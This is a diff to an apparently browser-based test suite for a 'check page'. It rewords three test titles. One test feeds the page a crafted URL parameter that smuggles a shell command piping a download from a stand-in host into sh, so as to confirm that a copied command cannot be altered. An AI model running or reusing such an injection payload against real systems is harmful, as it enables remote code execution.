@@ -27,7 +27,7 @@ describe('the check page', () => {
 
   const CHECK = () => `${panel.url}/check/`;
 
-  it('accepts a URL as it is typed, and shows what is wrong', async () => {
+  it('accepts a URL as owners type it, and shows what is wrong', async () => {
     await page.goto(CHECK());
     await page.getByLabel('Address of the panel').fill(website.host);
     await page.keyboard.press('Enter');
@@ -62,7 +62,7 @@ describe('the check page', () => {
     }
   });
 
-  it("copies the folded report, and a command that a link can't change", async () => {
+  it("copies the collapsed report, and a command that a link can't change", async () => {
     const sent = "https://x/;curl$IFS'evil.example'|sh";
     await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
     await untilChecked(page);
@@ -75,7 +75,7 @@ describe('the check page', () => {
     await copied;
   });
 
-  it('loads the file of the visitor’s language, and of another one when it is chosen', async () => {
+  it("loads the file for the visitor's language, and for another one when it is chosen", async () => {
     const french = await browser.newPage({ locale: 'fr-CA' });
     const asked: string[] = [];
     french.on('request', (request) => asked.push(new URL(request.url()).pathname));
